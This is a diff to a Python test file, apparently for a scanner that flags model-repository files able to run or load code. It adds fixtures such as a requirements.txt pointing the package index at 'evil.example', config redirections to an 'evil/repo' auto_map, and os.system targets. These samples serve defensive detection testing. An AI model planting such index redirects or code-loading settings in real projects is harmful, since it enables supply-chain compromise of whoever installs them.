@@ -74,8 +74,16 @@ CODE = {
     "adapter_config.json": (json.dumps({"auto_mapping": {"parent_library": "os"}}).encode(), "import os"),
     "hydra.yaml": (b"model: {_target_: os.system}\n", "_target_"),
     ".vscode/tasks.json": (b"{}", "tools go by it"),
+    "requirements.txt": (b"--index-url https://evil.example\n", "tools go by it"),
+    "sub/config.json": (json.dumps({"configuration_files": ["../config.4.0.0.json"]}).encode(), "in place of config"),
+    "deep/tokenizer_config.json": (json.dumps({"fast_tokenizer_files": ["tokenizer.4.0.0.json"]}).encode(), "4.0.0"),
+    "provenance/config.4.0.0.json": (json.dumps({"auto_map": {"A": "evil/repo--m.X"}}).encode(), "evil/repo"),
 }
 """Code that somebody would have to run: {path: (bytes, word of the report)}."""
+
+
+UNFAMILIAR = ("a.mak", "MLmodel", "config.cfg", "x.command", "fabfile", "conf.toml", "openvino_model.xml")
+"""Texts by names of which nobody knows that nothing runs them."""
 
 
 POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 9\n"
@@ -119,6 +127,8 @@ def cases() -> Iterator[Case]:
         yield Case(f"a file called {path!r}", spoil.write(path, b"{}"), 0, "", ("not allowed",))
     for name, data in BY_ITSELF.items():
         yield Case(f"signed: {name}", signed({name: data}), 0, name, ("Python runs it",))
+    for name in UNFAMILIAR:
+        yield Case(f"signed: a text called {name}", signed({name: b"x\n"}), 0, name, ("a name that is not known",), 3)
     for name, (data, word) in CODE.items():
         yield Case(f"signed: code in {name}", signed({name: data}), 0, name, ("carries code", word), 3)
 
